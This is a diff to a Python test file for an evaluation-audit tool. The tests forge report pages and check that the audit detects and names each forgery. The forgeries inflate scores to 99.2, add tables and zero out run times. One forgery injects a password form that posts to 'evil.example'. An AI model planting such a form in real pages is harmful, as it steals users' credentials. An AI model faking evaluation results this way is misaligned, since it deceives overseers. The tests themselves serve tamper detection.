@@ -9,9 +9,13 @@ import numpy as np
 import pytest
 
 from agentgym.audit import audit
+from agentgym.audit.numbers import _check_report
+from agentgym.audit.report import Checks
+from agentgym.audit.steps import read_steps
 from agentgym.cli import main
 from agentgym.config import load_config
 from agentgym.evaluation.publish import PAGE
+from agentgym.evaluation.report import picture_data
 from agentgym.pipeline.run import run_step
 from agentgym.pipeline.table import finished, open_store
 from agentgym.records import TRAJECTORIES, decode_trajectories
@@ -113,7 +117,11 @@ def played_anew(forger, **changes):
     run_step(LAST, cfg)
     store = open_store(cfg)
     commits = store.history(LAST, finished(cfg, store)[LAST].key)
-    return {commit.seq: decode_trajectories(store.read(commit, TRAJECTORIES)) for commit in commits}
+    return {
+        commit.seq: decode_trajectories(store.read(commit, TRAJECTORIES))
+        for commit in commits
+        if TRAJECTORIES in commit.records
+    }
 
 
 def the_best_of_many_seeds(forger):
@@ -122,7 +130,7 @@ def the_best_of_many_seeds(forger):
         (seq, i): e for seq, episodes in anew.items() for i, e in enumerate(episodes) if e.sample
     }
     forger.reevaluate(LAST, changed)
-    return f"{LAST} commit 0"
+    return f"{LAST} commit 1"
 
 
 def a_longer_horizon(forger):
@@ -139,17 +147,41 @@ def a_longer_horizon(forger):
     return named(late[0][0], late[1])
 
 
-def higher_numbers_on_the_page(forger):
-    data = forger.blob("report", 0, PAGE).read_bytes()
-    final = forger.commits(LAST)[-1].results["summary"]["greedy"]["mean"]
-    shown = f"{100 * final:.1f}".encode()
-    assert shown in data
-    forged = data.replace(shown, b"99.2")
+def on_page(forger, change):
+    """The page after a change of its text, in the store and in MLflow, and nothing else anew."""
+    forged = change(forger.blob("report", 0, PAGE).read_bytes())
     forger.rewrite("report", 0, PAGE, forged)
     for path in (forger.cfg.state_dir / "mlflow-artifacts").rglob(PAGE):
         path.write_bytes(forged)
     forger.report = lambda: None
-    return f"{PAGE} without its pictures"
+    return f"{PAGE}, made again"
+
+
+def higher_numbers_on_the_page(forger):
+    final = forger.commits(LAST)[-1].results["summary"]["greedy"]["mean"]
+    shown = f"{100 * final:.1f}".encode()
+    assert shown in forger.blob("report", 0, PAGE).read_bytes()
+    return on_page(forger, lambda page: page.replace(shown, b"99.2"))
+
+
+def a_second_table_in_the_section_on_time(forger):
+    more = b"<table><tr><td>greedy</td><td>99.2 %</td></tr></table></section>"
+    time = b"<h2>Time</h2>"
+
+    def change(page):
+        begin = page.index(time)
+        return page[:begin] + page[begin:].replace(b"</section>", more, 1)
+
+    return on_page(forger, change)
+
+
+def a_login_in_the_section_on_time(forger):
+    form = b'<h2>Time</h2><form action="https://evil.example"><input name="password"></form>'
+    return on_page(forger, lambda page: page.replace(b"<h2>Time</h2>", form))
+
+
+def a_run_that_took_no_time(forger):
+    return on_page(forger, lambda page: re.sub(rb"<td>[0-9.]+ s</td>", b"<td>0.1 s</td>", page))
 
 
 def higher_numbers_on_the_registered_model(forger):
@@ -165,6 +197,9 @@ FORGERIES = {
     the_best_of_many_seeds: {"sampling"},
     a_longer_horizon: {"episodes"},
     higher_numbers_on_the_page: {"numbers"},
+    a_second_table_in_the_section_on_time: {"numbers"},
+    a_login_in_the_section_on_time: {"numbers"},
+    a_run_that_took_no_time: {"numbers"},
     higher_numbers_on_the_registered_model: {"registry"},
 }
 
@@ -176,6 +211,31 @@ def test_a_forged_run_is_found_and_the_culprit_named(forger, forgery, checks):
     where = forgery(forger)
     said = forger.caught(*checks, num_episodes=None, seed=1)
     assert where in " | ".join(said.values()), said
+
+
+def test_a_picture_by_another_matplotlib_is_not_checked_and_the_page_around_it_is(forger):
+    name = "evaluation.png"
+    kept = forger.blob("report", 0, name).read_bytes()
+    drawn = kept.replace(b"Matplotlib version", b"Matplotlib Version")
+    assert drawn != kept
+    more = drawn[:-20] + bytes(20)  # another picture
+    data = forger.blob("report", 0, PAGE).read_bytes()
+    page = data.replace(picture_data(kept).encode(), picture_data(more).encode())
+    assert page != data
+    for file, content in ((name, more), (PAGE, page)):
+        forger.rewrite("report", 0, file, content)
+    commit = forger.commits("report")[-1]
+    store, checks = open_store(forger.cfg), Checks("numbers")
+    steps = read_steps(forger.cfg, store, Checks("content"), Checks("lineage"))
+    _check_report(forger.cfg, store, steps[-1], commit, checks)
+    assert checks.failures == []
+    ((what, why),) = checks.left_out
+    assert what == f"{name} of the report"
+    assert why.startswith("'Matplotlib Version")
+    forger.rewrite("report", 0, PAGE, page.replace(b"<h2>Run</h2>", b"<h2>Best run</h2>"))
+    steps = read_steps(forger.cfg, store, Checks("content"), Checks("lineage"))
+    _check_report(forger.cfg, store, steps[-1], forger.commits("report")[-1], checks)
+    assert f"{PAGE}, made again" in checks.failures[0]
 
 
 def test_equal_texts_alone_are_honest(forger):
@@ -192,10 +252,8 @@ def test_equal_texts_alone_are_honest(forger):
     num_pruned = sum(
         e.item.split == "train" for step in ("stage-1", "stage-2") for e in forger.episodes(step, 1)
     )
-    assert (
-        said["sampling"].note
-        == f"{num_pruned} episodes of pruned weights are not (store.keep_checkpoints)"
-    )
+    left_out = f"episodes of pruned weights ({num_pruned}), store.keep_checkpoints keeps newer ones"
+    assert said["sampling"].not_checked == (left_out,)
 
 
 def test_each_audit_draws_anew_and_its_seed_repeats_it(forger, capsys):
@@ -226,6 +284,8 @@ def test_each_audit_draws_anew_and_its_seed_repeats_it(forger, capsys):
     )
     assert told in shown
     assert "audit passed; to repeat it: --seed " in shown
+    assert "\nok, not checked  sampling " in shown
+    assert "\n        not checked: episodes of pruned weights (" in shown
 
 
 STEPS = (
@@ -247,9 +307,13 @@ def test_an_engine_that_does_not_repeat_its_draws_is_said_to_be_unchecked(
     params = str(forger.cfg.state_dir / "params.yaml")
     main(["audit", "--episodes", "1", "--seed", "1", "--params", params])
     said = capsys.readouterr().out
-    assert "-       sampling     not checked: engine torch does not repeat its draws" in said
+    told = (
+        r"^not checked +sampling +0\n +not checked: draws of a step \(\d+\), engine torch does not"
+    )
+    assert re.search(told, said, re.MULTILINE)
     # MLflow's pages and the gate have what was played before
-    assert set(re.findall(r"^FAILED +(\w+)", said, re.MULTILINE)) <= {"pages", "decisions"}
+    failed = set(re.findall(r"^FAILED +(\w+)", said, re.MULTILINE))
+    assert failed <= {"pages", "registry", "decisions"}
 
 
 def test_a_report_whose_names_lead_out_of_its_folder_is_not_exported(forger):
